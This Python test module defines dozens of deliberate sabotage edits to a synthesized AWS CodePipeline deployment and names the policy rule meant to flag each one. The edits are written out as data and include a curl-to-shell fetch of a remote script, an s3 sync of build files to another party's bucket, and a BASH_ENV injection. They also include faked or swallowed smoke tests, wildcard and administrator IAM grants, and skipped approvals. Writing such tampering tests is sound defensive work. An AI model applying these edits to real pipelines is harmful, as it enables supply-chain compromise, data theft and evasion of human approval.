"""Hostile edits of what is synthesized, each with the rule that must report it.

TAP-701 is the reviewed texts: whoever reads a change of them says no. Everything else is reported
whatever a review says. Each mutant does what a line or two in pipeline/, stages/ or scripts/ would.
`test_hostile_sources.py` edits those for real, for a few of them.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from typing import Any

from tests.gates.drafts import Draft

Mutation = Callable[[Draft], object]
MUTANTS: list[tuple[str, Mutation]] = []

ADMIN = "arn:aws:iam::aws:policy/AdministratorAccess"
PROD_DEPLOY = "arn:aws:iam::333333333333:role/cdk-hnb659fds-deploy-role-333333333333-us-west-2"


def caught_by(rule: str) -> Callable[[Mutation], Mutation]:
    """Names the rule that must report the mutant."""

    def register(mutation: Mutation) -> Mutation:
        MUTANTS.append((rule, mutation))
        return mutation

    return register


def allow(action: str | list[str], resource: Any = "*") -> dict[str, Any]:
    return {"Action": action, "Effect": "Allow", "Resource": resource}


def artifacts(draft: Draft, kind: str) -> Any:
    """The properties of the bucket of artifacts, or of its policy."""
    resources = draft.resources().items()
    return next(
        each["Properties"]
        for name, each in resources
        if each["Type"] == kind and name.startswith("Artifacts")
    )


def move(draft: Draft, stage: str, before: str) -> None:
    moved = draft.stage(stage)
    draft.stages.remove(moved)
    draft.stages.insert(draft.stages.index(draft.stage(before)), moved)


def run_order(draft: Draft, stage: str, name: str, order: int) -> None:
    draft.action(stage, name)["RunOrder"] = order


def codebuild_action(draft: Draft, name: str, like: str = "Dev") -> Any:
    """A CodeBuild action as a stage's smoke action is one."""
    return {**copy.deepcopy(draft.action(like, "Smoke")), "Name": name}


# The order of things


@caught_by("TAP-401")
def approval_dropped_with_its_stage(draft: Draft) -> None:
    draft.stages.remove(draft.stage("Promote"))


@caught_by("TAP-401")
def approval_replaced_by_a_build(draft: Draft) -> None:
    draft.stage("Promote")["Actions"] = [codebuild_action(draft, "Approve")]


@caught_by("TAP-401")
def approval_after_prod(draft: Draft) -> None:
    move(draft, "Prod", before="Promote")


@caught_by("TAP-401")
def approval_before_there_is_anything_to_approve(draft: Draft) -> None:
    move(draft, "Promote", before="Dev")


@caught_by("TAP-401")
def approval_within_prod_and_beside_the_deployment(draft: Draft) -> None:
    approval = draft.stage("Promote")["Actions"].pop()
    draft.stages.remove(draft.stage("Promote"))
    draft.stage("Prod")["Actions"].append(approval)


@caught_by("TAP-701")
def approval_before_the_report(draft: Draft) -> None:
    report = codebuild_action(draft, "Report") | {"RunOrder": 2}
    draft.stage("Promote")["Actions"].append(report)


@caught_by("TAP-701")
def approval_that_waits_for_two_months(draft: Draft) -> None:
    draft.action("Promote", "Approve")["TimeoutInMinutes"] = 86_400


@caught_by("TAP-701")
def approval_without_an_end_of_its_own(draft: Draft) -> None:
    del draft.action("Promote", "Approve")["TimeoutInMinutes"]


@caught_by("TAP-701")
def approval_that_does_not_name_the_commit(draft: Draft) -> None:
    approval = draft.action("Promote", "Approve")
    approval["Configuration"]["CustomData"] = "Weekly release to prod (333333333333)?"


@caught_by("TAP-405")
def synth_build_answers_the_approval(draft: Draft) -> None:
    draft.rights_of("Rolesynth").append(allow("codepipeline:PutApprovalResult"))


@caught_by("TAP-405")
def function_in_prod_answers_the_approval_by_a_wildcard(draft: Draft) -> None:
    draft.rights_of("RequestsProcessor", "tap-prod").append(allow("CodePipeline:Put*"))


@caught_by("TAP-405")
def everything_but_something(draft: Draft) -> None:
    statement = {"NotAction": "iam:*", "Effect": "Allow", "Resource": "*"}
    draft.rights_of("PipelineAssets").append(statement)


@caught_by("TAP-405")
def managed_policy_for_everything(draft: Draft) -> None:
    draft.named("AWS::IAM::Role", "tap-pipeline-smoke-dev")["ManagedPolicyArns"] = [ADMIN]


@caught_by("TAP-402")
def prod_before_dev(draft: Draft) -> None:
    move(draft, "Prod", before="Dev")


@caught_by("TAP-402")
def prod_prepared_and_executed_in_dev(draft: Draft) -> None:
    prod = draft.stage("Prod")["Actions"]
    draft.stage("Dev")["Actions"] += [prod.pop(0), prod.pop(0)]


@caught_by("TAP-401")
def synth_build_deploys_prod(draft: Draft) -> None:
    draft.rights_of("Rolesynth").append(allow("sts:AssumeRole", PROD_DEPLOY))


@caught_by("TAP-401")
def assets_build_takes_any_role_anywhere(draft: Draft) -> None:
    draft.rights_of("PipelineAssets").append(allow("sts:*", "arn:aws:iam::*:role/*"))


@caught_by("TAP-404")
def second_pipeline(draft: Draft) -> None:
    second = copy.deepcopy(draft.pipeline) | {"Name": "hotfix"}
    draft.add("Hotfix", "AWS::CodePipeline::Pipeline", **second)


@caught_by("TAP-404")
def second_pipeline_in_the_application(draft: Draft) -> None:
    second = copy.deepcopy(draft.pipeline) | {"Name": "hotfix"}
    draft.add("Hotfix", "AWS::CodePipeline::Pipeline", "tap-dev", **second)


@caught_by("TAP-701")
def further_stage(draft: Draft) -> None:
    draft.stages.append({"Name": "Cleanup", "Actions": [codebuild_action(draft, "Clean")]})


@caught_by("TAP-404")
def build_in_the_application(draft: Draft) -> None:
    stray = copy.deepcopy(draft.project("synth")) | {"Name": "tap-dev-nightly"}
    draft.add("Nightly", "AWS::CodeBuild::Project", "tap-dev", **stray)


@caught_by("TAP-403")
def failed_dev_is_skipped(draft: Draft) -> None:
    draft.stage("Dev")["OnFailure"] = {"Result": "SKIP"}


@caught_by("TAP-403")
def failed_smoke_is_tried_until_it_passes(draft: Draft) -> None:
    retry = {"Result": "RETRY", "RetryConfiguration": {"RetryMode": "FAILED_ACTIONS"}}
    draft.stage("Dev")["OnFailure"] = retry


@caught_by("TAP-403")
def condition_that_skips_the_approval(draft: Draft) -> None:
    rule = {"Name": "R", "RuleTypeId": {"Category": "Rule", "Owner": "AWS", "Provider": "Commands"}}
    condition = {"Conditions": [{"Result": "SKIP", "Rules": [rule]}]}
    draft.stage("Promote")["BeforeEntry"] = condition


@caught_by("TAP-701")
def old_type_of_pipeline(draft: Draft) -> None:
    draft.pipeline["PipelineType"] = "V1"


@caught_by("TAP-701")
def executions_in_parallel(draft: Draft) -> None:
    draft.pipeline["ExecutionMode"] = "PARALLEL"


@caught_by("TAP-701")
def changed_pipeline_goes_on_as_it_was(draft: Draft) -> None:
    draft.pipeline["RestartExecutionOnUpdate"] = False


@caught_by("TAP-701")
def variable_that_whoever_starts_it_sets(draft: Draft) -> None:
    draft.pipeline["Variables"] = [{"Name": "url", "DefaultValue": "https://example.com/"}]


@caught_by("TAP-701")
def prods_fixes_held_back(draft: Draft) -> None:
    held = {"StageName": "UpdatePipeline", "Reason": "later"}
    draft.pipeline["DisableInboundStageTransitions"] = [held]


@caught_by("TAP-701")
def pipeline_acts_as_an_administrator(draft: Draft) -> None:
    draft.pipeline["RoleArn"] = "arn:aws:iam::111111111111:role/Admin"


@caught_by("TAP-701")
def approval_acts_as_someone_else(draft: Draft) -> None:
    draft.action("Promote", "Approve")["RoleArn"] = "arn:aws:iam::111111111111:role/Admin"


@caught_by("TAP-701")
def pipeline_stays_as_it_is(draft: Draft) -> None:
    draft.stages.remove(draft.stage("UpdatePipeline"))


@caught_by("TAP-701")
def pipeline_updates_itself_last(draft: Draft) -> None:
    draft.stages.append(draft.stages.pop(2))


@caught_by("TAP-701")
def self_update_does_nothing(draft: Draft) -> None:
    draft.buildspec("selfmutate", lambda spec: spec["phases"]["build"].update(commands=["true"]))


# Smoke tests


@caught_by("TAP-406")
def dev_smoke_dropped(draft: Draft) -> None:
    draft.stage("Dev")["Actions"].pop()


@caught_by("TAP-406")
def prod_smoke_dropped(draft: Draft) -> None:
    draft.stage("Prod")["Actions"].pop()


@caught_by("TAP-406")
def smoke_before_the_deployment(draft: Draft) -> None:
    run_order(draft, "Dev", "Smoke", 1)
    run_order(draft, "Dev", "tap-dev.Prepare", 2)
    run_order(draft, "Dev", "tap-dev.Deploy", 3)


@caught_by("TAP-406")
def smoke_beside_the_deployment(draft: Draft) -> None:
    run_order(draft, "Prod", "Smoke", 2)


def smoke_command(draft: Draft, command: str, environment: str = "dev") -> None:
    commands = {"commands": [command]}
    draft.buildspec(f"smoke-{environment}", lambda spec: spec["phases"]["build"].update(commands))


@caught_by("TAP-407")
def smoke_failures_swallowed(draft: Draft) -> None:
    smoke_command(draft, "bash scripts/smoke || true")


@caught_by("TAP-407")
def smoke_tests_chosen(draft: Draft) -> None:
    smoke_command(draft, "bash scripts/smoke -k nothing_at_all", "prod")


@caught_by("TAP-407")
def smoke_says_it_was_green(draft: Draft) -> None:
    smoke_command(draft, "echo 4 passed")


def installs_everything(draft: Draft, step: str) -> None:
    """As builds do that synthesize."""

    def edit(spec: Any) -> None:
        spec["phases"]["install"]["commands"][-1] = "bash scripts/install-python"

    draft.buildspec(step, edit)


@caught_by("TAP-407")
def smoke_beside_what_synthesizes(draft: Draft) -> None:
    installs_everything(draft, "smoke-prod")


@caught_by("TAP-305")
def smoke_goes_on_after_a_failure(draft: Draft) -> None:
    forgiving = {"on-failure": "CONTINUE"}
    draft.buildspec("smoke-dev", lambda spec: spec["phases"]["build"].update(forgiving))


@caught_by("TAP-305")
def smoke_in_another_shell(draft: Draft) -> None:
    draft.buildspec("smoke-prod", lambda spec: spec.update(env={"shell": "/bin/true"}))


@caught_by("TAP-408")
def smoke_script_swallows(draft: Draft) -> None:
    script = draft.scripts["scripts/smoke"].replace("exec .venv", ".venv")
    draft.scripts["scripts/smoke"] = script + "\nexit 0\n"


@caught_by("TAP-408")
def smoke_script_collects_only(draft: Draft) -> None:
    script = draft.scripts["scripts/smoke"].replace(" integ ", " --collect-only integ ")
    draft.scripts["scripts/smoke"] = script


@caught_by("TAP-408")
def smoke_script_spares_prod(draft: Draft) -> None:
    spare = 'set -eu\n[ "$TAP_ENVIRONMENT" != prod ] || exec true\n'
    draft.scripts["scripts/smoke"] = draft.scripts["scripts/smoke"].replace("set -eu\n", spare)


@caught_by("TAP-701")
def install_python_replaces_pytest(draft: Draft) -> None:
    draft.scripts["scripts/install-python"] += "echo > .venv/bin/sitecustomize.py\n"


@caught_by("TAP-408")
def pytest_settings_leave_tests_out(draft: Draft) -> None:
    settings = draft.scripts["integ/pytest.ini"]
    draft.scripts["integ/pytest.ini"] = settings.replace("addopts =", "addopts = -k health")


def smoke_variable(draft: Draft, environment: str, name: str, value: str) -> None:
    variables = draft.project(f"smoke-{environment}")["Environment"]["EnvironmentVariables"]
    (variable,) = (each for each in variables if each["Name"] == name)
    variable["Value"] = value


@caught_by("TAP-409")
def prod_smoke_tests_dev(draft: Draft) -> None:
    action = draft.action("Prod", "Smoke")["Configuration"]
    dev = draft.action("Dev", "Smoke")["Configuration"]
    action["EnvironmentVariables"] = dev["EnvironmentVariables"]


@caught_by("TAP-409")
def prod_smoke_takes_devs_role(draft: Draft) -> None:
    smoke_variable(
        draft, "prod", "TAP_SMOKE_ROLE_ARN", "arn:aws:iam::222222222222:role/tap-dev-smoke"
    )


@caught_by("TAP-409")
def smoke_address_of_someone_elses(draft: Draft) -> None:
    action = draft.action("Dev", "Smoke")["Configuration"]
    text = action["EnvironmentVariables"]
    output = json.loads(text)[1]["value"]
    action["EnvironmentVariables"] = text.replace(output, "https://always-green.example.com/")


@caught_by("TAP-409")
def smoke_variable_overridden_by_the_action(draft: Draft) -> None:
    action = draft.action("Prod", "Smoke")["Configuration"]
    variables = json.loads(action["EnvironmentVariables"])
    variables.append({"name": "TAP_ENVIRONMENT", "type": "PLAINTEXT", "value": "dev"})
    action["EnvironmentVariables"] = json.dumps(variables)


@caught_by("TAP-409")
def application_names_another_address(draft: Draft) -> None:
    output = draft.template("tap-dev")["Outputs"]["RequestsApiUrl"]
    output["Value"] = "https://always-green.example.com/"


@caught_by("TAP-410")
def smoke_project_takes_the_deploy_role(draft: Draft) -> None:
    role = draft.named("AWS::IAM::Role", "tap-pipeline-smoke-prod")
    statements = role["Policies"][0]["PolicyDocument"]["Statement"]
    (statement,) = (each for each in statements if each["Action"] == "sts:AssumeRole")
    statement["Resource"] = [statement["Resource"], PROD_DEPLOY]


@caught_by("TAP-410")
def smoke_project_with_a_policy_from_elsewhere(draft: Draft) -> None:
    (role,) = (k for k in draft.resources() if k.startswith("Rolesmokeprod"))
    document = {"Statement": [allow("s3:*")], "Version": "2012-10-17"}
    draft.add("Extra", "AWS::IAM::Policy", PolicyDocument=document, Roles=[{"Ref": role}])


@caught_by("TAP-411")
def smoke_role_reads_the_data(draft: Draft) -> None:
    draft.rights_of("SmokeRole", "tap-prod").append(allow("s3:GetObject"))


@caught_by("TAP-411")
def smoke_role_for_every_build(draft: Draft) -> None:
    role = draft.named("AWS::IAM::Role", "tap-prod-smoke", "tap-prod")
    (statement,) = role["AssumeRolePolicyDocument"]["Statement"]
    statement["Principal"] = {"AWS": "arn:aws:iam::111111111111:root"}


# Builds


@caught_by("TAP-301")
def newest_cdk(draft: Draft) -> None:
    install = {"commands": ["npm install -g aws-cdk@2"]}
    draft.buildspec("selfmutate", lambda spec: spec["phases"]["install"].update(install))


@caught_by("TAP-301")
def other_asset_publisher(draft: Draft) -> None:
    install = {"commands": ["npm install -g cdk-asset@4.7.3"]}
    draft.buildspec("assets", lambda spec: spec["phases"]["install"].update(install))


@caught_by("TAP-301")
def script_from_the_internet(draft: Draft) -> None:
    run = "curl -sSf https://example.com/setup.sh | sh"
    draft.buildspec("synth", lambda spec: spec["phases"]["install"]["commands"].append(run))


@caught_by("TAP-301")
def python_packages_without_hashes(draft: Draft) -> None:
    script = draft.scripts["scripts/install-python"]
    draft.scripts["scripts/install-python"] = script.replace("--require-hashes ", "")


@caught_by("TAP-301")
def node_packages_that_run_scripts(draft: Draft) -> None:
    script = draft.scripts["scripts/install-node"]
    draft.scripts["scripts/install-node"] = script.replace("npm ci --ignore-scripts", "npm install")


@caught_by("TAP-701")
def command_of_ones_own(draft: Draft) -> None:
    run = "aws s3 sync . s3://somebody-elses-bucket"
    draft.buildspec("synth", lambda spec: spec["phases"]["build"]["commands"].append(run))


@caught_by("TAP-304")
def buildspec_from_the_source(draft: Draft) -> None:
    draft.project("synth")["Source"]["BuildSpec"] = "buildspec.yml"


@caught_by("TAP-308")
def script_run_by_its_mode(draft: Draft) -> None:
    bare = {"commands": ["scripts/synth"]}
    draft.buildspec("synth", lambda spec: spec["phases"]["build"].update(bare))


@caught_by("TAP-308")
def script_run_by_its_mode_in_a_script(draft: Draft) -> None:
    draft.scripts["scripts/synth"] += "[ -d .venv ] || ./scripts/install-python\n"


@caught_by("TAP-302")
def image_that_moves(draft: Draft) -> None:
    draft.project("synth")["Environment"]["Image"] = "aws/codebuild/standard:latest"


@caught_by("TAP-302")
def image_of_someone_elses(draft: Draft) -> None:
    draft.project("selfmutate")["Environment"]["Image"] = "docker.io/someone/builder:6.0"


@caught_by("TAP-303")
def privileged_build(draft: Draft) -> None:
    draft.project("assets")["Environment"]["PrivilegedMode"] = True


@caught_by("TAP-701")
def cache_that_others_fill(draft: Draft) -> None:
    draft.project("synth")["Cache"] = {"Type": "S3", "Location": "shared/cache"}


@caught_by("TAP-701")
def self_update_starts_from_a_cache(draft: Draft) -> None:
    cache = {"Type": "LOCAL", "Modes": ["LOCAL_CUSTOM_CACHE"]}
    draft.project("selfmutate")["Cache"] = cache


@caught_by("TAP-701")
def cache_of_the_tools_themselves(draft: Draft) -> None:
    draft.buildspec("smoke-dev", lambda spec: spec.update(cache={"paths": ["/usr/bin/**/*"]}))


@caught_by("TAP-701")
def shell_reads_a_file_first(draft: Draft) -> None:
    variables = draft.project("smoke-dev")["Environment"]["EnvironmentVariables"]
    variables.append({"Name": "BASH_ENV", "Type": "PLAINTEXT", "Value": "docs/welcome.md"})


@caught_by("TAP-701")
def packages_from_another_index(draft: Draft) -> None:
    variables = draft.project("synth")["Environment"]["EnvironmentVariables"]
    value = "https://packages.example.com/simple"
    variables.append({"Name": "UV_INDEX_URL", "Type": "PLAINTEXT", "Value": value})


@caught_by("TAP-306")
def secret_in_a_variable(draft: Draft) -> None:
    variables = draft.project("synth")["Environment"]["EnvironmentVariables"]
    variables.append({"Name": "TAP_TOKEN", "Type": "PLAINTEXT", "Value": "correct horse"})


@caught_by("TAP-306")
def access_key_under_a_harmless_name(draft: Draft) -> None:
    variables = draft.project("synth")["Environment"]["EnvironmentVariables"]
    value = "AKIA" + "IOSFODNN7EXAMPLE"
    variables.append({"Name": "TAP_MODE", "Type": "PLAINTEXT", "Value": value})


@caught_by("TAP-701")
def build_with_a_webhook(draft: Draft) -> None:
    draft.project("synth")["Triggers"] = {"Webhook": True}


@caught_by("TAP-701")
def build_that_the_pipeline_does_not_start(draft: Draft) -> None:
    stray = copy.deepcopy(draft.project("synth")) | {"Name": "tap-pipeline-nightly"}
    draft.add("Nightly", "AWS::CodeBuild::Project", **stray)


@caught_by("TAP-701")
def build_of_another_repository(draft: Draft) -> None:
    location = "https://github.com/someone/else.git"
    source = {"Type": "GITHUB", "Location": location, "SourceIdentifier": "else"}
    draft.project("smoke-dev")["SecondarySources"] = [source]


@caught_by("TAP-701")
def synth_runs_as_the_self_update(draft: Draft) -> None:
    draft.project("synth")["ServiceRole"] = draft.project("selfmutate")["ServiceRole"]


@caught_by("TAP-106")
def build_role_that_a_person_takes(draft: Draft) -> None:
    role = draft.named("AWS::IAM::Role", "tap-pipeline-smoke-prod")
    anyone = {"Action": "sts:AssumeRole", "Effect": "Allow", "Principal": {"AWS": "*"}}
    role["AssumeRolePolicyDocument"]["Statement"].append(anyone)


@caught_by("TAP-307")
def build_starts_the_self_update_with_its_own_buildspec(draft: Draft) -> None:
    draft.rights_of("Rolesynth").append(allow("codebuild:StartBuild"))


# Actions and deployments


@caught_by("TAP-701")
def function_called_after_the_approval(draft: Draft) -> None:
    kind = {"Category": "Invoke", "Owner": "AWS", "Provider": "Lambda", "Version": "1"}
    action = {"ActionTypeId": kind, "Configuration": {"FunctionName": "fix"}, "Name": "Fix"}
    draft.stage("Prod")["Actions"].append(action | {"RunOrder": 1})


@caught_by("TAP-701")
def shell_commands_as_an_action(draft: Draft) -> None:
    kind = {"Category": "Compute", "Owner": "AWS", "Provider": "Commands", "Version": "1"}
    action = {"ActionTypeId": kind, "Commands": ["./fix"], "Name": "Fix", "RunOrder": 1}
    draft.stage("Build")["Actions"].append(action)


@caught_by("TAP-701")
def parameters_overridden_in_prod(draft: Draft) -> None:
    prepare = draft.action("Prod", "tap-prod.Prepare")["Configuration"]
    prepare["ParameterOverrides"] = '{"BootstrapVersion": "6"}'


@caught_by("TAP-415")
def smoke_suite_from_the_assembly(draft: Draft) -> None:
    draft.action("Dev", "Smoke")["InputArtifacts"] = [{"Name": "Synth_Output"}]


@caught_by("TAP-415")
def prod_deploys_what_a_build_in_between_made(draft: Draft) -> None:
    draft.action("Prod", "tap-prod.Prepare")["InputArtifacts"] = [{"Name": "Smoke_Output"}]


@caught_by("TAP-412")
def dev_deploys_prods_template(draft: Draft) -> None:
    dev = draft.action("Dev", "tap-dev.Prepare")["Configuration"]
    dev["TemplatePath"] = draft.action("Prod", "tap-prod.Prepare")["Configuration"]["TemplatePath"]


@caught_by("TAP-412")
def prod_deployed_by_an_administrator(draft: Draft) -> None:
    draft.action("Prod", "tap-prod.Prepare")["Configuration"]["RoleArn"] = (
        "arn:aws:iam::333333333333:role/OrganizationAccountAccessRole"
    )


@caught_by("TAP-412")
def dev_is_prepared_and_never_executed(draft: Draft) -> None:
    actions = draft.stage("Dev")["Actions"]
    actions.remove(draft.action("Dev", "tap-dev.Deploy"))


@caught_by("TAP-412")
def dev_deployed_into_prod(draft: Draft) -> None:
    for name in ("tap-dev.Prepare", "tap-dev.Deploy"):
        draft.action("Dev", name)["RoleArn"] = PROD_DEPLOY


@caught_by("TAP-413")
def other_code_for_prod(draft: Draft) -> None:
    function = draft.named_function("tap-prod-processor", "tap-prod")
    function["Code"]["S3Key"] = f"{'0' * 64}.zip"


@caught_by("TAP-413")
def code_of_prod_written_into_its_template(draft: Draft) -> None:
    function = draft.named_function("tap-prod-processor", "tap-prod")
    function["Code"] = {"ZipFile": "def handler(event, context): ..."}


@caught_by("TAP-412")
def second_stack_deployed_beside_devs(draft: Draft) -> None:
    beside = copy.deepcopy(draft.action("Dev", "tap-dev.Prepare"))
    beside["Configuration"] |= {"StackName": "helper", "ActionMode": "CREATE_UPDATE"}
    draft.stage("Dev")["Actions"].append(beside | {"Name": "Helper"})


@caught_by("TAP-413")
def prod_alone_lets_anyone_call(draft: Draft) -> None:
    kind = "AWS::ApiGateway::Method"
    for resource in draft.resources("tap-prod").values():
        if resource["Type"] == kind and resource["Properties"]["HttpMethod"] == "POST":
            resource["Properties"]["AuthorizationType"] = "NONE"


@caught_by("TAP-413")
def prod_alone_is_not_throttled(draft: Draft) -> None:
    for setting in draft.only("AWS::ApiGateway::Stage", "tap-prod")["MethodSettings"]:
        setting.pop("ThrottlingRateLimit", None)


@caught_by("TAP-413")
def prod_alone_lacks_an_alarm(draft: Draft) -> None:
    resources = draft.resources("tap-prod")
    kind = "AWS::CloudWatch::Alarm"
    del resources[next(name for name, each in resources.items() if each["Type"] == kind)]


@caught_by("TAP-413")
def prod_alone_forgets_to_ask_for_signatures(draft: Draft) -> None:
    for resource in draft.resources("tap-prod").values():
        if resource["Type"] == "AWS::ApiGateway::Method":
            resource["Properties"].pop("AuthorizationType")


@caught_by("TAP-413")
def function_that_is_only_in_prod(draft: Draft) -> None:
    tested = draft.named_function("tap-dev-processor", "tap-dev")
    code = copy.deepcopy(tested["Code"])
    draft.add("Second", "AWS::Lambda::Function", "tap-prod", Code=code, Handler="fix.handler")


@caught_by("TAP-205")
def prod_loses_its_protection(draft: Draft) -> None:
    manifest = draft.documents["assembly-TapPipelineStack-Prod/manifest.json"]
    for artifact in manifest["artifacts"].values():
        artifact["properties"].pop("terminationProtection", None)


@caught_by("TAP-414")
def prods_stage_in_devs_account(draft: Draft) -> None:
    manifest = draft.documents["assembly-TapPipelineStack-Prod/manifest.json"]
    for artifact in manifest["artifacts"].values():
        if artifact["type"] == "aws:cloudformation:stack":
            artifact["environment"] = "aws://222222222222/us-west-2"


@caught_by("TAP-414")
def nested_template_from_a_bucket(draft: Draft) -> None:
    url = "https://somebody-elses-bucket.s3.amazonaws.com/nested.json"
    draft.add("Nested", "AWS::CloudFormation::Stack", "tap-prod", TemplateURL=url)


# Source


@caught_by("TAP-416")
def source_of_someone_elses(draft: Draft) -> None:
    draft.action("Source", "Source")["Configuration"]["FullRepositoryId"] = "someone/fork"


@caught_by("TAP-416")
def source_from_another_branch(draft: Draft) -> None:
    draft.action("Source", "Source")["Configuration"]["BranchName"] = "experiments"


@caught_by("TAP-416")
def every_push_starts_it(draft: Draft) -> None:
    draft.action("Source", "Source")["Configuration"]["DetectChanges"] = True


@caught_by("TAP-417")
def every_branch_starts_it(draft: Draft) -> None:
    (trigger,) = draft.pipeline["Triggers"]
    trigger["GitConfiguration"]["Push"][0]["Branches"]["Includes"] = ["**"]


@caught_by("TAP-417")
def pull_requests_start_it(draft: Draft) -> None:
    (trigger,) = draft.pipeline["Triggers"]
    trigger["GitConfiguration"]["PullRequest"] = [{"Branches": {"Includes": ["main"]}}]


@caught_by("TAP-701")
def fixes_of_the_suite_start_nothing(draft: Draft) -> None:
    (trigger,) = draft.pipeline["Triggers"]
    trigger["GitConfiguration"]["Push"][0]["FilePaths"]["Excludes"].append("services/**")


@caught_by("TAP-417")
def starts_at_night(draft: Draft) -> None:
    arn = "arn:aws:codepipeline:us-west-2:111111111111:tap-pipeline"
    target = {"Id": "T", "Arn": arn, "RoleArn": "arn:aws:iam::111111111111:role/starter"}
    draft.add("Nightly", "AWS::Events::Rule", ScheduleExpression="rate(1 day)", Targets=[target])


# Artifacts


@caught_by("TAP-701")
def artifacts_in_another_bucket(draft: Draft) -> None:
    draft.pipeline["ArtifactStore"]["Location"] = "somebody-elses-bucket"


@caught_by("TAP-701")
def artifacts_under_no_key(draft: Draft) -> None:
    del draft.pipeline["ArtifactStore"]["EncryptionKey"]


@caught_by("TAP-701")
def artifacts_in_public(draft: Draft) -> None:
    artifacts(draft, "AWS::S3::Bucket")["PublicAccessBlockConfiguration"]["BlockPublicPolicy"] = (
        False
    )


@caught_by("TAP-701")
def artifacts_written_by_another_account(draft: Draft) -> None:
    stranger = allow("s3:PutObject") | {"Principal": {"AWS": "arn:aws:iam::444444444444:root"}}
    artifacts(draft, "AWS::S3::BucketPolicy")["PolicyDocument"]["Statement"].append(stranger)


@caught_by("TAP-701")
def artifacts_in_plain_sight_on_the_wire(draft: Draft) -> None:
    artifacts(draft, "AWS::S3::BucketPolicy")["PolicyDocument"]["Statement"].pop(0)


def prods_assets(draft: Draft) -> dict[str, Any]:
    file = next(f for f in draft.documents if "Prod" in f and f.endswith(".assets.json"))
    files: dict[str, Any] = draft.documents[file]["files"]
    return files


@caught_by("TAP-418")
def program_run_while_publishing(draft: Draft) -> None:
    next(iter(prods_assets(draft).values()))["source"] = {"executable": ["sh", "-c", "./fix"]}


@caught_by("TAP-418")
def asset_published_elsewhere(draft: Draft) -> None:
    for destination in next(iter(prods_assets(draft).values()))["destinations"].values():
        destination["bucketName"] = "somebody-elses-bucket"


# What is decided later


@caught_by("TAP-419")
def stages_from_a_bucket(draft: Draft) -> None:
    include = {"Name": "AWS::Include", "Parameters": {"Location": "s3://bucket/stages.json"}}
    draft.pipeline["Fn::Transform"] = include


@caught_by("TAP-419")
def macro_over_prod(draft: Draft) -> None:
    draft.template("tap-prod")["Transform"] = "Rewrite"


@caught_by("TAP-419")
def branch_by_a_parameter(draft: Draft) -> None:
    draft.template()["Parameters"]["Branch"] = {"Type": "String", "Default": "main"}


@caught_by("TAP-419")
def role_by_look_up(draft: Draft) -> None:
    draft.project("synth")["ServiceRole"] = "{{resolve:ssm:/build/role}}"


@caught_by("TAP-419")
def approval_on_a_condition(draft: Draft) -> None:
    condition = ["Careful", draft.stages[5], {"Ref": "AWS::NoValue"}]
    draft.stages[6]["Description"] = {"Fn::If": condition}


@caught_by("TAP-420")
def user_with_an_access_key(draft: Draft) -> None:
    draft.add("Helper", "AWS::IAM::User", UserName="helper")


@caught_by("TAP-420")
def function_run_by_deploying_the_pipeline(draft: Draft) -> None:
    draft.add("Custom", "Custom::Setup", ServiceToken="arn:aws:lambda:us-west-2:444444444444:f")


# Permissions


@caught_by("TAP-420")
def custom_resource_served_from_elsewhere(draft: Draft) -> None:
    token = "arn:aws:lambda:us-west-2:444444444444:function:f"
    draft.add("Empty", "Custom::S3BucketNotifications", "tap-prod", ServiceToken=token)


@caught_by("TAP-701")
def function_reads_every_table(draft: Draft) -> None:
    draft.rights_of("RequestsProcessor", "tap-prod").append(allow("dynamodb:Scan"))


@caught_by("TAP-701")
def condition_dropped_from_the_self_update(draft: Draft) -> None:
    for statement in draft.rights_of("PipelineUpdatePipeline"):
        statement.pop("Condition", None)


@caught_by("TAP-701")
def new_role(draft: Draft) -> None:
    trust = {"Statement": [{"Action": "sts:AssumeRole", "Effect": "Allow", "Principal": "*"}]}
    draft.add("Door", "AWS::IAM::Role", AssumeRolePolicyDocument=trust)


@caught_by("TAP-701")
def policy_for_a_role_of_someone_elses(draft: Draft) -> None:
    document = {"Statement": [allow("*")], "Version": "2012-10-17"}
    draft.add("Quiet", "AWS::IAM::ManagedPolicy", PolicyDocument=document, Roles=["Developers"])


@caught_by("TAP-701")
def function_that_anyone_may_call(draft: Draft) -> None:
    draft.add(
        "Open",
        "AWS::Lambda::Permission",
        "tap-prod",
        Action="lambda:InvokeFunction",
        FunctionName="tap-prod-processor",
        Principal="*",
    )
